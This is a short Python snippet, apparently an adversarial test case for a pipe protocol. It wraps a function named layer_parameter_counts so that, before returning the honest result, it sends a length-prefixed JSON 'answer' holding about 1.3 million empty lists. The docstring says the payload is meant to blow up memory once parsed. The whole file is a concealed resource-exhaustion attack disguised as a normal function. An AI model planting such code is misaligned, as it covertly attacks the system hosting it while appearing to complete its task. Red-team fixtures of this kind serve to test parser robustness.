"""Megabytes of empty lists, which are twenty times as large once they are lists."""
# on top of: honest pipe
# must: Z
import struct

BODY = b'{"type": "answer", "blobs": [], "value": [' + b"[]," * 1_300_000 + b"[]]}"

right = layer_parameter_counts


def layer_parameter_counts(model):
    say(struct.pack(">IQ", len(BODY), 0) + BODY)
    return right(model)
